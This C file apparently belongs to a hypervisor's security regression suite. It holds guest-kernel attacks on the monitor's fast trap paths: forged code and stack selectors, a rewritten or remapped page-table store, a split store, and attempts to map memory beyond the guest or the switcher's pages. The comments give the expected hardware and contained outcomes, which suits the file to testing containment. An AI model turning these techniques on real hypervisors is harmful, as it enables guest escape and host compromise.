/*
 * attack_fast.c - forging the selectors the switcher's #GP fast path
 * trusts (entry.asm, sw_fast_gp), and changing what its #PF fast path
 * for page-table stores was armed with (sw_fast_pf, fastptw.c).
 *
 * Mechanism: the fast path completes a CLI, STI, IN, MOV CR or INVLPG of
 * the guest kernel in the switcher, without the world switch, when the
 * trap frame's CS and SS are the kernel's flat code and 32-bit stack
 * selectors.  It then reads the instruction bytes at *linear* EIP (CS
 * base 0) and IRETs straight back (SS must not be 16-bit: that IRET would
 * leave the ring-0 stack's high half in ESP).  The monitor once kept
 * those two selectors (sw_fast->kcs, kss) in the first two words of the
 * vCPU page (0xFFC23000), which the CPU must be able to push frames on,
 * so the guest kernel in ring 1 can write it (docs/security.md, "What
 * ring 1 can read in the switcher").  The attacks write their forgery
 * there, then trap on a CLI with no exit in between (an exit rewrites
 * the page's fast-path state):
 *
 *   fast-forged-kcs  a DPL-0 code segment based at 0x90000000 (ring 1
 *               under the monitor); its selector (with the RPL of the
 *               CPL, as trap frames show it) written into kcs and the
 *               current SS into kss; then a far JMP into it to a CLI at
 *               an offset whose linear address (the offset taken as based
 *               at 0) is unmapped in the guest's page tables; the CLI is
 *               done with IF set, and IF read back after it.
 *               Hardware: the write to 0xFFC23000 faults (unmapped: the
 *               attack skips it), the CLI runs in ring 0: IF 0.
 *               Monitor, forgery honoured (before the fix): the ring-0
 *               stub reads the byte at the unmapped linear address, a #PF
 *               in the monitor's own code: "monitor: panic: monitor
 *               fault: vector 14 ... cr2 <the offset>".  Monitor,
 *               contained: kcs and kss are on the read-only sw_data page;
 *               the CLI goes to C, which fetches it through the segment
 *               base: IF 0, the kernel goes on, the output equals native.
 *   fast-forged-kss  SS = a 16-bit stack segment (AGDT_STACK16, as in
 *               attack=stack16) written into kss, then, with the flat
 *               kernel CS and IF clear, a CLI on that stack with ESP
 *               0x12340FF0.  Hardware: ESP is still 0x12340FF0.  Monitor,
 *               forgery honoured: the stub's IRET returns to the 16-bit
 *               stack and ESP's high half becomes the ring-0 stack's
 *               (0xFFC20FF0).  Monitor, contained: the CLI goes to C, and
 *               its espfix return keeps ESP 0x12340FF0, as natively.
 *
 * Since the fix the two words are other fast-path state of the guest's
 * own (its virtual IF and interrupt-shadow hints), which the monitor
 * reads back as untrusted: the attacks still write them, and the guest
 * must still get the native outcome.
 *
 * Each sequence runs once unforged first: the first load of a descriptor
 * sets its accessed bit, a write to the real GDT the monitor does for
 * the CPU (a trap, whose exit would rewrite the forged words).
 *
 * Where the guest cannot write 0xFFC23000 (bare hardware: unmapped;
 * ring=3: a supervisor page at CPL 3) the probe faults, nothing is
 * forged, and the rest runs as it would natively; nothing the attack
 * prints says whether the forgery was written, so the output is the
 * native run's whenever the monitor contains it.
 *
 * The #PF fast path (the monitor's src/trap/fastptw.c) completes the
 * kernel's MOV to a page-table entry in the switcher once C has done the
 * same instruction (the same EIP and bytes) once.  What it was armed
 * with is C's, on pages the guest cannot write; what the guest can still
 * change is everything around it.  The fast-ptw attacks store at one
 * site (ptw_store's MOV [EDX], EAX) until it is armed, then:
 *
 *   fast-ptw    rewrite the instruction (MOV [EDX], ECX: the entry must
 *               get ECX); remap the alias the table was written through
 *               to a data page (the store must land there); give DS a
 *               base of -3, so that the offset of the table's first entry
 *               is a store crossing from the page before into the table,
 *               3 bytes there and 1 in the entry (a stub that took the
 *               offset for the address would write the whole entry).
 *               Hardware and a contained monitor print the same.
 *   fast-ptw-escape   the armed store writes an entry naming
 *               guest-physical 1 GB, then a read through it: as
 *               phys-escape, the monitor ends the guest.
 *   fast-ptw-switcher the armed store writes the page directory's entry
 *               for the switcher's 4 MB, then a write there: as
 *               map-switcher, the monitor ends the guest (a directory is
 *               never a frame the fast path stores to).
 */
#include "attack_lib.h"
#include "gdt.h"
#include "intr.h"
#include "vm.h"
#include "x86.h"
#include "console.h"

#define BASED_BASE       0x90000000u    /* the code segment's base */
#define BASED_SEL        SEL(AGDT_SPARE0, 0)
#define S16_FORGED_ESP   0x12340FF0u    /* high half: a marker; SP 0x0FF0 */

void based_cli_run(const u32 *far, u32 forge);
extern u8 based_cli[], based_cli_after[];
void s16_forged_cli(u32 esp, u32 *out, u32 forge);

/* 1 if the guest can write the vCPU page's first words (read, then write
 * back what was there: the next exit rewrites them anyway). */
static u32 can_forge(void)
{
	u32 v;
	if (probe_read32(SW_VCPU, &v))
		return 0;
	return !probe_write32(SW_VCPU, v);
}

/* whether the page directory in force maps linear va at all */
static int linear_mapped(u32 va)
{
	const pde_t *pd = (const pde_t *)P2V(rcr3() & ~(PGSIZE - 1));
	if (!(pd[PDX(va)] & PTE_P))
		return 0;
	const pte_t *pte = vm_walk((pde_t *)pd, va, 0);
	return pte && (*pte & PTE_P);
}

static u32 based_far[2];

static void go_based(u32 forge)
{
	based_cli_run(based_far, forge);
}

static void atk_forged_kcs(void)
{
	u32 off = (u32)based_cli - BASED_BASE;

	agdt[AGDT_SPARE0] = seg_make(BASED_BASE, 0xFFFFFFFF, STA_X | STA_R, 0, 0);
	agdt_reload();
	based_far[0] = off;
	based_far[1] = BASED_SEL;
	u32 forge = can_forge();
	int s = intr_save();
	int t = attack_catch(go_based, 0);              /* the accessed bit: see above */
	sti();
	if (!t)
		t = attack_catch(go_based, forge);
	u32 fl = read_eflags();
	intr_restore(s);
	kprintf("attack: CLI at offset 0x%x of a code segment based at 0x%x (linear 0x%x %s): ",
		off, BASED_BASE, off, linear_mapped(off) ? "mapped" : "unmapped");
	if (t)
		kprintf("vector %u, err 0x%x at %x:%x\n", caught.vector, caught.err,
			caught.cs & 0xFFFF, caught.eip);
	else
		kprintf("done, IF after it %u\n", (fl & FL_IF) ? 1 : 0);
}

static void atk_forged_kss(void)
{
	u32 out[1] = { 0 };
	u32 forge = can_forge();
	int s = intr_save();
	s16_forged_cli(S16_FORGED_ESP, out, 0);         /* the accessed bit: see above */
	s16_forged_cli(S16_FORGED_ESP, out, forge);
	intr_restore(s);
	kprintf("attack: CLI with the flat kernel code on a 16-bit stack, ESP 0x%x: "
		"ESP after it 0x%x\n", S16_FORGED_ESP, out[0]);
}

/* ---- the page-table store fast path (the monitor's fastptw.c) ---- */

#define PTW_SLOT        12      /* the test-window entry the stores rewrite */
#define PTW_SCRATCH     9       /* ...a scratch page, the one before: */
#define PTW_ESCAPE      9       /* ...(fast-ptw-escape) a page beyond RAM */
#define PTW_ALIAS       10      /* ...the window's own page table, as data */
#define PTW_ARM         4       /* stores that arm the fast path (C takes the first) */
#define PTW_NOTPRESENT  0x12345000u     /* entry values with P clear */
#define PTW_REWRITTEN   0x22222000u
#define PTW_REMAPPED    0x33333000u
#define PTW_BASED       0xFFFFFFFDu     /* a DS base: offset x is linear x - 3 */
#define PTW_SPLIT       0x5AB2C3D4u     /* its low byte with P clear lands last */
#define MODRM_EAX_AT_EDX 0x02u          /* 89 02: MOV [EDX], EAX */
#define MODRM_ECX_AT_EDX 0x0Au          /* 89 0A: MOV [EDX], ECX */
#define PTW_DS_SEL      SEL(AGDT_SPARE1, 0)

void ptw_store(volatile u32 *addr, u32 val, u32 val2, u32 ds);
extern u8 ptw_site[];

static u32 twin(u32 slot)
{
	return TESTWIN + slot * PGSIZE;
}

static void twin_map(u32 slot, u32 pa)
{
	testwin_pt[slot] = pa ? pa | PTE_P | PTE_W : 0;
	invlpg(twin(slot));
}

/* The window's table made one the shadow derives from (a walk through
 * it: a read of a page it maps), so that stores to it trap. */
static void *ptw_walked(void)
{
	void *page = page_alloc();
	u32 v;

	if (page) {
		twin_map(PTW_SLOT, V2P(page));
		probe_read32(twin(PTW_SLOT), &v);
	}
	return page;
}

/* Stores at ptw_site until the monitor has armed it for this EIP: the
 * first goes through C, which arms the switcher; the rest are its own. */
static void ptw_arm(volatile u32 *entry)
{
	for (u32 i = 0; i < PTW_ARM; i++)
		ptw_store(entry, PTW_NOTPRESENT + i * PGSIZE, 0, 0);
}

/* What the fast path was armed with, changed under it: each store must
 * land where the CPU puts it.  All values have P clear: nothing maps. */
static void atk_fast_ptw(void)
{
	volatile u32 *alias = (volatile u32 *)twin(PTW_ALIAS);
	volatile u32 *scratch = page_alloc();

	if (!scratch)
		return;
	twin_map(PTW_ALIAS, V2P(testwin_pt));
	ptw_arm(&alias[PTW_SLOT]);
	kprintf("attack: page-table stores through an alias of the table: entry %u = 0x%x\n",
		PTW_SLOT, testwin_pt[PTW_SLOT]);

	ptw_site[1] = MODRM_ECX_AT_EDX;         /* the armed instruction, rewritten */
	ptw_store(&alias[PTW_SLOT], PTW_NOTPRESENT, PTW_REWRITTEN, 0);
	ptw_site[1] = MODRM_EAX_AT_EDX;
	kprintf("attack: the store rewritten to MOV [EDX], ECX: entry %u = 0x%x\n", PTW_SLOT,
		testwin_pt[PTW_SLOT]);

	ptw_arm(&alias[PTW_SLOT]);
	twin_map(PTW_ALIAS, V2P(scratch));      /* the table's alias now a data page */
	ptw_store(&alias[PTW_SLOT], PTW_REMAPPED, 0, 0);
	kprintf("attack: the alias remapped to a data page: entry %u = 0x%x, the page's "
		"word %u = 0x%x\n", PTW_SLOT, testwin_pt[PTW_SLOT], PTW_SLOT, scratch[PTW_SLOT]);

	/* DS based at -3: offset = the alias's first entry is linear 3 bytes
	 * before it, a store that crosses from the scratch page into the table */
	twin_map(PTW_SCRATCH, V2P(scratch));
	twin_map(PTW_ALIAS, V2P(testwin_pt));
	agdt[AGDT_SPARE1] = seg_make(PTW_BASED, 0xFFFFFFFF, STA_W, 0, 0);
	agdt_reload();
	u32 ds = PTW_DS_SEL | (read_cs() & 3);
	int s = intr_save();
	ptw_store((volatile u32 *)(twin(PTW_SCRATCH) + 16), 0, 0, ds); /* its accessed bit */
	ptw_arm(&alias[0]);
	ptw_store(&alias[0], 0, 0, 0);
	ptw_store(alias, PTW_SPLIT, 0, ds);
	intr_restore(s);
	kprintf("attack: a store through DS based at 0x%x across into the table: entry 0 = "
		"0x%x, the page before ends 0x%x\n", PTW_BASED, testwin_pt[0],
		scratch[PGSIZE / 4 - 1]);

	testwin_pt[0] = testwin_pt[PTW_SLOT] = 0;
	twin_map(PTW_SCRATCH, 0);
	twin_map(PTW_ALIAS, 0);
	invlpg(twin(0));
	invlpg(twin(PTW_SLOT));
	page_free((void *)scratch);
}

/* The armed store names guest-physical 1 GB, then a read through it. */
static void atk_fast_ptw_escape(void)
{
	u32 v = 0;
	void *page = ptw_walked();

	if (!page)
		return;
	ptw_arm(&testwin_pt[PTW_ESCAPE]);
	ptw_store(&testwin_pt[PTW_ESCAPE], ESCAPE_GPA | PTE_P | PTE_W, 0, 0);
	invlpg(twin(PTW_ESCAPE));
	int f = probe_read32(twin(PTW_ESCAPE), &v);
	kprintf("attack: read of guest-physical 0x%x through an entry stored at the armed "
		"site %s: 0x%x\n", ESCAPE_GPA, f ? "faulted" : "returned", v);
	twin_map(PTW_ESCAPE, 0);
	twin_map(PTW_SLOT, 0);
	page_free(page);
}

/* The armed store writes the page directory's entry for the switcher's
 * 4 MB (a directory: never a frame the fast path takes), then a write there. */
static void atk_fast_ptw_switcher(void)
{
	pde_t *pd = P2V(rcr3());
	void *page = ptw_walked();

	if (!page)
		return;
	ptw_arm(&testwin_pt[PTW_SLOT + 1]);
	ptw_store(&pd[PDX(SW_GDT)], PDE_BIGADDR(0) | PTE_P | PTE_W | PTE_PS, 0, 0);
	invlpg(SW_IDT);
	int f = probe_write32(SW_IDT, 0xDEADBEEF);
	kprintf("attack: write to 0x%x %s\n", SW_IDT, f ? "faulted" : "succeeded");
	pd[PDX(SW_GDT)] = 0;
	invlpg(SW_IDT);
	twin_map(PTW_SLOT + 1, 0);
	twin_map(PTW_SLOT, 0);
	page_free(page);
}

const struct attack attacks_fast[] = {
	{ "fast-forged-kcs", atk_forged_kcs },
	{ "fast-forged-kss", atk_forged_kss },
	{ "fast-ptw", atk_fast_ptw },
	{ "fast-ptw-escape", atk_fast_ptw_escape },
	{ "fast-ptw-switcher", atk_fast_ptw_switcher },
	{ 0, 0 },
};
